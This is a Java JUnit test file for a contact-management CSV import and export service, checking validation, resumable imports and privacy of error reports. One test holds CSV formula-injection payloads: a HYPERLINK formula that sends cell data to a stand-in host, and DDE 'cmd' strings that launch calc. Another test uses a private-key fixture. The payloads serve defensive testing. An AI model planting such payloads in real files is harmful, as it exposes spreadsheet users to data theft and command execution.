package org.rapport.contacts.impl;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertThrows;
import static org.junit.Assert.assertTrue;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;
import org.rapport.contacts.api.Contact;
import org.rapport.contacts.api.ImportOptions;
import org.rapport.contacts.api.ImportReport;
import org.rapport.contacts.api.ImportReport.RowError;
import org.rapport.contacts.api.ImportReport.State;
import org.rapport.persistence.Transactions;
import org.rapport.testing.TestPersistence;
import org.junit.experimental.categories.Category;
import org.rapport.testing.UsesDatabase;

@Category(UsesDatabase.class)
public class ContactTransferImplTest {

    @Rule
    public final TestPersistence db = new TestPersistence("rapport-contacts");
    @Rule
    public final TemporaryFolder temp = new TemporaryFolder();

    private ContactServiceImpl contacts;
    private ContactTransferImpl transfer;

    @Before
    public void setUp() {
        contacts = new ContactServiceImpl(db.emf());
        transfer = new ImportsOnRunner(db, "node-a").transfer;
    }

    private Path csv(String text) throws IOException {
        Path file = temp.newFile().toPath();
        Files.writeString(file, text, StandardCharsets.UTF_8);
        return file;
    }

    private static Path rows(Path file, int count) throws IOException {
        StringBuilder text = new StringBuilder("email,first name,tags\n");
        for (int i = 1; i <= count; i++) {
            text.append("person").append(i).append("@example.com,Person ").append(i).append(",bulk\n");
        }
        Files.writeString(file, text, StandardCharsets.UTF_8);
        return file;
    }

    @Test
    public void goodRowsAreKeptAndEachBadRowIsReportedByRowAndColumn() throws IOException {
        Path file = csv("""
                Email,First Name,Last Name,Phone,Tags
                ada@example.com,Ada,Lovelace,+44 20 7946 0001,vip;math
                not-an-address,Bad,Email,,
                grace@example.com,Grace,Hopper,call me,
                "katherine@example.com","Katherine","Johnson, NASA",,nasa|vip
                """);

        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        assertEquals(State.DONE, report.state());
        assertEquals(4, report.rows());
        assertEquals(2, report.created());
        assertEquals(2, report.failed());
        // The report names the row, the column and why, never what the cell held.
        assertEquals(List.of(new RowError(3, "Email", "the value is not an email address"),
                new RowError(4, "Phone", "the value is not a phone number: 4 to 15 digits, optionally after a '+'")),
                report.errors());
        assertEquals(2, contacts.count());
        Contact katherine = contacts.search("katherine@", 0, 1).get(0);
        assertEquals("Johnson, NASA", katherine.lastName());
        assertEquals(Set.of("nasa", "vip"), katherine.tags());
    }

    @Test
    public void aTimeZoneIsImportedAndExportedAndOneThatIsNoIanaIdIsRefusedByRowAndColumn() throws IOException {
        Path file = csv("""
                email,first name,Time zone
                ada@example.com,Ada,Europe/London
                grace@example.com,Grace,Mars/Olympus
                """);

        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        assertEquals(1, report.created());
        assertEquals(1, report.errors().size());
        RowError refused = report.errors().get(0);
        assertEquals(3, refused.row());
        assertEquals("Time zone", refused.column());
        assertTrue(refused.reason(), refused.reason().contains("is not an IANA time zone such as Europe/Paris"));
        assertFalse("never what the cell held", refused.reason().contains("Mars"));
        assertEquals("Europe/London", contacts.search("ada@", 0, 1).get(0).timeZone());
        StringWriter out = new StringWriter();
        transfer.exportCsv(out);
        String[] lines = out.toString().split("\r?\n");
        assertTrue(lines[0], lines[0].endsWith("\"accountId\",\"timeZone\""));
        assertTrue(lines[1], lines[1].endsWith(",\"Europe/London\""));

        transfer.importCsv(csv("email,first name\nada@example.com,Augusta\n"), ImportOptions.defaults(), done -> { });
        assertEquals("a file without the column keeps the zone", "Europe/London",
                contacts.search("ada@", 0, 1).get(0).timeZone());
        transfer.importCsv(csv("email,tz\nada@example.com,\n"), ImportOptions.defaults(), done -> { });
        assertEquals("an empty cell clears it", null, contacts.search("ada@", 0, 1).get(0).timeZone());
    }

    @Test
    public void aDryRunReportsWhatWouldHappenAndStoresNothing() throws IOException {
        contacts.create(new org.rapport.contacts.api.NewContact("ada@example.com", "Ada", null));
        Path file = csv("email,first\nada@example.com,Augusta Ada\nnew@example.com,New\nbroken,\n");

        ImportReport report = transfer.importCsv(file, new ImportOptions(true, Map.of(), true), done -> { });

        assertEquals(1, report.created());
        assertEquals(1, report.updated());
        assertEquals(1, report.failed());
        assertTrue(report.dryRun());
        assertEquals(1, contacts.count());
        assertEquals("Ada", contacts.search("ada@", 0, 1).get(0).firstName());
    }

    @Test
    public void importingTheSameFileAgainDuplicatesNoOne() throws IOException {
        Path file = rows(temp.newFile().toPath(), 30);
        transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        ImportReport again = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        assertEquals("both imports are listed, the latest first", 2, transfer.importJobs(10).size());
        assertEquals(again.id(), transfer.importJobs(10).get(0).id());
        assertEquals(1, transfer.importJobs(1).size());
        assertEquals(0, again.created());
        assertEquals(30, again.unchanged());
        assertEquals(30, contacts.count());
    }

    /** The server dies after the first page; handed in again, the same file resumes its import's job after it. */
    @Test
    public void anImportCutShortResumesAfterItsLastStoredBatchWhenHandedInAgain() throws IOException, java.sql.SQLException {
        Path file = rows(temp.newFile().toPath(), 1200);
        ContactImports.Submitted cut;
        try (java.io.InputStream in = Files.newInputStream(file)) {
            cut = new ImportsOnRunner(db, "node-a", 1, new ContactPropertiesImpl(db.emf())).imports.submit(in,
                    file.toString(), ImportOptions.defaults(), "agnes", java.time.Duration.ZERO);
        }
        // The server had the database to itself (embedded Derby): it left the job interrupted.
        ImportJobTest.leave(db, cut.job().id(), "INTERRUPTED");
        assertEquals(State.INTERRUPTED, transfer.importJob(cut.report().id()).orElseThrow().state());
        assertEquals(ImportPages.BATCH, contacts.count());

        long[] seen = {0};
        ImportReport resumed = transfer.importCsv(file, ImportOptions.defaults(), done -> seen[0] = done);

        assertEquals("the same import", cut.report().id(), resumed.id());
        assertEquals(State.DONE, resumed.state());
        assertEquals("rows up to the last stored batch are skipped", ImportPages.BATCH + 1, resumed.resumedAt());
        assertEquals(1200, resumed.rows());
        assertEquals(1200, resumed.created());
        assertEquals(1200, seen[0]);
        assertEquals("nobody twice, nobody lost", 1200, contacts.count());
        assertEquals(1200, contacts.countMatches("tag:bulk"));
        assertEquals("the uploads are gone with their imports", List.of(), ImportContent.stored(db.emf()));
    }

    @Test
    public void aMalformedFileStopsAtTheRowItBreaksAndKeepsWhatCameBefore() throws IOException {
        Path file = csv("email,first\nada@example.com,Ada\ngrace@example.com,\"Grace\nkatherine@example.com,Katherine\n");

        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        assertEquals(State.FAILED, report.state());
        assertTrue(report.problem(), report.problem().contains("EOF"));
        assertEquals(1, contacts.count());
    }

    @Test
    public void columnsAreMappedByNameOrByTheMappingGiven() throws IOException {
        Path file = csv("E-Post,Vorname,Sprache\nada@example.com,Ada,de-DE\n");

        IllegalArgumentException noEmail = assertThrows("no email column without a mapping",
                IllegalArgumentException.class, () -> transfer.importCsv(file, ImportOptions.defaults(), done -> { }));
        assertTrue(noEmail.getMessage(), noEmail.getMessage().contains("no column holds the email address"));
        IllegalArgumentException noField = assertThrows("no such field", IllegalArgumentException.class,
                () -> transfer.importCsv(file, new ImportOptions(false, Map.of("E-Post", "mail"), true), done -> { }));
        assertTrue(noField.getMessage(), noField.getMessage().contains("'mail', which is not a contact field"));
        ImportReport report = transfer.importCsv(file, new ImportOptions(false,
                Map.of("E-Post", "email", "Vorname", "firstName", "Sprache", "language"), true), done -> { });

        assertEquals(1, report.created());
        assertEquals("de-DE", contacts.search("ada", 0, 1).get(0).language());
    }

    @Test
    public void formulasFromAnImportAreNeutralisedInTheExportAndImportBackAsTheyWere() throws IOException {
        Path file = csv("email,first,last,phone\n"
                + "eve@example.com,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+cmd|' /C calc'!A0,+44 20 7946 0002\n"
                + "mallory@example.com,@SUM(1+9),-2+3+cmd|' /C calc'!A0,\n");
        ImportReport imported = transfer.importCsv(file, ImportOptions.defaults(), done -> { });
        assertEquals(imported.errors().toString(), 2, imported.created());
        StringWriter csv = new StringWriter();
        transfer.exportCsv(csv);

        String export = csv.toString();
        assertTrue(export, export.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
        assertTrue(export, export.contains("\"'+cmd|' /C calc'!A0\""));
        assertTrue(export, export.contains("\"'@SUM(1+9)\""));
        assertTrue(export, export.contains("\"'-2+3+cmd|' /C calc'!A0\""));
        assertTrue("a phone number stays a number: " + export, export.contains("\"+442079460002\""));
        for (String line : export.split("\r\n")) {
            for (String cell : line.split("\",\"")) {
                String value = cell.replaceFirst("^\"", "");
                assertFalse(line, value.startsWith("=") || value.startsWith("@") || value.startsWith("+c") || value.startsWith("-2"));
            }
        }
        Path exported = temp.newFile().toPath();
        Files.writeString(exported, export);
        ImportReport reimport = transfer.importCsv(exported, ImportOptions.defaults(), done -> { });
        assertEquals("the export imports back as the values it holds", 2, reimport.unchanged());
        assertEquals("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", contacts.search("eve@", 0, 1).get(0).firstName());
    }

    @Test
    public void aRowWithControlCharactersInANameIsRefusedAndTheOthersKept() throws IOException {
        Path file = csv("email,first,last\nada@example.com,Ada,Lovelace\nnul@example.com,Nu\u0000ll,By\u0007te\n");

        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        assertEquals(1, report.created());
        assertEquals(List.of("first", "last"), report.errors().stream().map(RowError::column).toList());
        assertEquals(1, contacts.count());
    }

    @Test
    public void anExportImportsIntoAnEmptyDatabaseAsTheSameContacts() throws IOException {
        Path file = csv("email,first,last,phone,language,channel,tags\n"
                + "ada@example.com,Ada,\"Lovelace, Countess\",+44 20 7946 0001,en-GB,email,vip;math\n"
                + "grace@example.com,Grace,Hopper,,,,\n");
        transfer.importCsv(file, ImportOptions.defaults(), done -> { });
        StringWriter csv = new StringWriter();
        transfer.exportCsv(csv);
        StringWriter json = new StringWriter();
        transfer.exportJson(json);

        assertTrue(json.toString(), json.toString().contains("\"lastName\":\"Lovelace, Countess\",\"phone\":\"+442079460001\""));
        assertTrue(json.toString(), json.toString().contains("\"tags\":[\"math\",\"vip\"]"));
        Path exported = temp.newFile().toPath();
        Files.writeString(exported, csv.toString());
        ImportReport reimport = transfer.importCsv(exported, ImportOptions.defaults(), done -> { });
        assertEquals("the export holds what is stored", 2, reimport.unchanged());
    }

    @Test
    public void aFileThatIsNotContactsLeavesNoLineOfItInTheReport() throws IOException {
        // What a hostile agent tried with a server file: each line of a key as an "email".
        Path file = csv("""
                -----BEGIN OPENSSH PRIVATE KEY-----
                b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
                QyNTUxOQAAACBbuQ8kPx2Xn+c8OIEjhkYqWuvZcz7Mc8qMgu7JkEbIFAAAAJgsZLQNLGS0
                -----END OPENSSH PRIVATE KEY-----
                """);

        ImportReport report = transfer.importCsv(file, new ImportOptions(true,
                Map.of("-----BEGIN OPENSSH PRIVATE KEY-----", "email"), true), done -> { });

        assertEquals(3, report.failed());
        for (RowError e : report.errors()) {
            assertEquals(e.toString(), "the value is not an email address", e.reason());
        }
        assertTrue(report.toString(), !report.toString().contains("b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW")
                && !report.toString().contains("END OPENSSH"));
    }

    @Test
    public void aRefusedRowKeepsNoneOfItsValues() throws IOException {
        Path file = csv("""
                email,first name,phone,tags,country
                ada@example.com,Ada,+44 20 7946 0001x,vip;no way!,GB
                grace@example.com,Grace,,,Atlantis
                """);

        ImportReport report = transfer.importCsv(file, ImportOptions.defaults(), done -> { });

        String text = report.errors().toString();
        for (String value : List.of("+44 20 7946 0001x", "no way!", "Atlantis", "atlantis")) {
            assertTrue(value + " is in " + text, !text.contains(value));
        }
        assertEquals(text, 3, report.errors().size());
    }

    @Test
    public void erasureDropsRefusedRowsThatStillNameThePersonAndLeftOverUploads() throws IOException {
        long ada = contacts.create(new org.rapport.contacts.api.NewContact("ada@example.com", "Ada", null)).id();
        // A report written before reports stopped quoting values.
        Transactions.inTransaction(db.emf(), em -> {
            ImportJobEntity job = new ImportJobEntity("old", "old.csv", "hash", "key", ImportOptions.defaults(),
                    java.time.Instant.now(), 2);
            ImportRun run = new ImportRun();
            run.fail(3, "Email", "ada@example.com could not be stored: duplicate");
            run.fail(4, "Email", "the value is not an email address");
            job.progress(run);
            em.persist(job);
            return null;
        });
        ContactErasure erasure = new ContactErasure(db.emf(), contacts,
                new InteractionServiceImpl(db.emf(), java.time.Clock.systemUTC()), new ImportsOnRunner(db, "node-a").imports);
        // The upload of an import whose job is not running (it was cancelled).
        ImportContent.save(db.emf(), "left", new java.io.ByteArrayInputStream("email\nada@example.com\n"
                .getBytes(StandardCharsets.UTF_8)));

        String report = erasure.erase(ada);

        assertTrue(report, report.contains("; refused rows dropped from 1 import report(s); 1 left-over import upload(s) deleted"));
        assertEquals(List.of(new RowError(4, "Email", "the value is not an email address")),
                transfer.importJob("old").orElseThrow().errors());
        assertEquals(List.of(), ImportContent.stored(db.emf()));
    }
}
